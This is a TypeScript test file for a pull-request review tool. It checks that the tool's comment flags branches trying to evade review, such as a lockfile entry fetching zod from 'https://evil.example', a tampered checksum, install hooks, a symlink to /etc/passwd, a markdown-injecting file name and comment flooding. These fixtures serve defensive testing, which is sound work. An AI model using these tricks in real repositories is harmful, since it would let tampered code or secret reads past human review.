import { mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs"
import { join } from "node:path"

import { afterAll, expect, test } from "vitest"

import { commit, git } from "./testing/commit.ts"
import { openReviewedRepository } from "./testing/reviewed-branch.ts"

const repository = openReviewedRepository()
afterAll(() => repository[Symbol.asyncDispose]())

const { directory } = repository

/** @throws if nothing is replaced, as once the code is another */
function replace(path: string, from: RegExp, to: string): void {
  repository.edit(path, (text) => {
    if (!from.test(text)) throw new Error(`${path} does not contain ${from}`)
    return text.replace(from, to)
  })
}

function add(path: string, text: string): void {
  mkdirSync(join(directory, path, ".."), { recursive: true })
  writeFileSync(join(directory, path), text)
}

const production = "environments/Pulumi.production.yaml"

/** What production's members would be sent to, with their cookies. */
function trustPartner(): void {
  replace(production, /(trustedOrigins:\n)/, "$1    - https://partner.org\n")
}

const partner = /^\| origins that call .*`\+ origin https:\/\/partner\.org`/m
const refused = /\*\*R23\*\* `environments\/Pulumi\.production\.yaml:13`/

/** How a branch tries to get past whoever reads its comment alone, and what the comment says all the same. */
const branches: { title: string; change: () => void; says: RegExp[]; good?: boolean }[] = [
  {
    title: "takes out the rule that would refuse its origin",
    change() {
      trustPartner()
      replace(
        "infra/environment/rules/host.ts",
        /\.filter\(\(\{ origin \}\) => !ours.*\n/,
        ".filter(() => false)\n",
      )
    },
    says: [/what judges +\| `infra\/environment\/rules\/host\.ts` \+1 -1 /, partner, refused],
  },
  {
    title: "leaves the effective file as it was",
    change: trustPartner,
    says: [/### Stale\n\n- `environments\/production\.effective\.yaml`/, partner, refused],
  },
  {
    title: "writes an effective file of its own beside changed code",
    change() {
      trustPartner()
      replace("environments/production.effective.yaml", /\n.*AUTH_URL.*/, "")
      replace("infra/names.ts", /^/, "// harmless\n")
    },
    says: [
      /^## Read first: this changes what judges, plans or deploys\n/m,
      /what plans or deploys +\| `infra\/names\.ts` \+1 -0 /,
      /### Rendered by the code of the branch[^]*production\.effective\.yaml says otherwise[^]*- bindings: AUTH_URL/,
      partner,
      refused,
    ],
  },
  {
    title: "edits a migration that is applied",
    change: () => replace("migrations/0000_accounts.sql", /^/, "-- harmless\n"),
    says: [/`0000_accounts\.sql` \*\*edited\*\*\n +- refused: /],
  },
  {
    title: "drops a table that its own judge of migrations lets through",
    change() {
      repository.addMigration("gone", "DROP TABLE journal_entry;\n")
      replace("d1-migrations/lint/rules.ts", /^/, "// harmless\n")
    },
    says: [/`\d+_gone\.sql` \*\*\w+\*\*\n +- refused: /, /what judges +\| `d1-migrations\//],
  },
  {
    title: "installs a package from another server",
    change: () =>
      replace(
        "package-lock.json",
        /("node_modules\/zod": \{\n)/,
        `$1      "resolved": "https://evil.example/zod/-/zod-4.6.7.tgz",\n`,
      ),
    says: [
      /what is installed +\| `package-lock\.json` /,
      /\*\*refused\*\* `node_modules\/zod comes from https:\/\/evil\.example`/,
    ],
  },
  {
    title: "installs other content under the version that was there",
    change: () =>
      replace("package-lock.json", /("node_modules\/zod": \{\n.*\n.*"sha512-)\w/, "$1_"),
    says: [/\*\*refused\*\* `node_modules\/zod 4\.\S+ has another checksum than before`/],
  },
  {
    title: "installs another package under a name that is known",
    change: () =>
      replace(
        "package-lock.json",
        /("node_modules\/zod": \{\n)/,
        `$1      "name": "zod-faster",\n`,
      ),
    says: [/\*\*refused\*\* `node_modules\/zod is the package zod-faster`/],
  },
  {
    title: "runs a script when a package is installed",
    change: () =>
      replace(
        "package-lock.json",
        /("node_modules\/zod": \{\n)/,
        `$1      "hasInstallScript": true,\n`,
      ),
    says: [/`node_modules\/zod` runs a script when it is installed/],
    good: true,
  },
  {
    title: "installs by another file than the one that is compared",
    change() {
      add("npm-shrinkwrap.json", "{}\n")
      replace(
        "d1-migrations/package.json",
        /"type"/,
        `"scripts": { "postinstall": "node x.js" },\n  "type"`,
      )
    },
    says: [/what is installed +\| `d1-migrations\/package\.json` .*<br>`npm-shrinkwrap\.json` /],
    good: true,
  },
  {
    title: "deploys production without its reviewers",
    change: () =>
      replace(".github/workflows/production.yml", /\n {4}environment: production #.*/, ""),
    says: [/what judges +\| `\.github\/workflows\/production\.yml` \+0 -1 /],
    good: true,
  },
  {
    title: "lets nobody own the tool",
    change: () => replace(".github/CODEOWNERS", /$/, "\n/cli/\n"),
    says: [
      /what judges +\| `\.github\/CODEOWNERS` \+\d -0 /,
      /\*\*R59\*\* `\.github\/CODEOWNERS:\d` `\/cli\/` `has no owner`/,
    ],
  },
  {
    title: "writes the comment itself, by the tool and by the workflow",
    change() {
      trustPartner()
      replace("cli/review/review.ts", /changes: changesBetween\(base.*/, "changes: [],")
      replace(".github/workflows/review.yml", /pull_request_target/, "pull_request")
    },
    says: [
      /what judges +\| `\.github\/workflows\/review\.yml` \+1 -1<br>`cli\/review\/review\.ts` \+1 -1 /,
      partner,
      refused,
    ],
  },
  {
    title: "binds something only where a token is set",
    change: () =>
      replace(
        "infra/bindings.ts",
        /(const texts = \{)/,
        `$1 ...(process.env["CLOUDFLARE_API_TOKEN"] ? { AUTH_TRUSTED_ORIGIN: "https://partner.org" } : {}),`,
      ),
    says: [/what plans or deploys +\| `infra\/bindings\.ts` \+1 -1 /],
    good: true,
  },
  {
    title: "takes out a limit of requests",
    change: () =>
      replace("app/http/address-limit.ts", /if \(await isWithinLimit.*\) return/, "return"),
    says: [/what answers requests +\| `app\/http\/address-limit\.ts` \+1 -1 /],
    good: true,
  },
  {
    title: "deploys another program",
    change() {
      replace("Pulumi.yaml", /infra\/main\.js/, "bench/main.js")
      add("bench/main.js", "\n")
    },
    says: [/what plans or deploys +\| `Pulumi\.yaml` \+1 -1 /],
    good: true,
  },
  {
    title: "makes an environment of a file of the runner",
    change() {
      rmSync(join(directory, production))
      symlinkSync("/etc/passwd", join(directory, production))
    },
    says: [/\*\*R01\*\*|cannot be read/],
  },
  {
    title: "pushes its change out of the comment by many files with long names",
    change() {
      trustPartner()
      const names = Array.from({ length: 300 }, (_, at) => `cli/${"long/".repeat(100)}${at}.ts`)
      for (const name of names) add(name, "\n")
    },
    says: [/<br>and 260 more \|/, partner, refused],
  },
  {
    title: "has a file whose name is a text of its own",
    change: () => add("app/`\n\n## Nothing has changed\n\n`.ts", "\n"),
    says: [/what answers requests +\| `app\/' ## Nothing has changed '\.ts` \+1 -0 /],
    good: true,
  },
]

test.each(branches)("the comment names what a branch does that $title", async (row) => {
  const { text, good, output } = await repository.review(row.change)
  expect(text, output).toMatch(/^<!-- accounts review -->\n/)
  for (const said of row.says) expect(text).toMatch(said)
  expect(good).toBe(row.good ?? false)
  expect(text + output).not.toContain("root:")
  const sha = /by the code of `(\w{12})`, which ran none of the branch's/.exec(text)?.[1]
  expect(sha !== undefined || !text.includes("\n| what ")).toBe(true)
})

test("what cannot be merged has no comment of its own, and fails", async () => {
  replace("Pulumi.yaml", /^.*/, "# Of main")
  commit(directory, "Change main")
  const { text, good, output } = await repository.review(() => {
    git(directory, "reset", "--quiet", "--hard", "HEAD~1")
    replace("Pulumi.yaml", /^.*/, "# Of the branch")
  })
  expect({ text, good }).toEqual({ text: "", good: false })
  expect(output).toContain("cannot be merged")
})
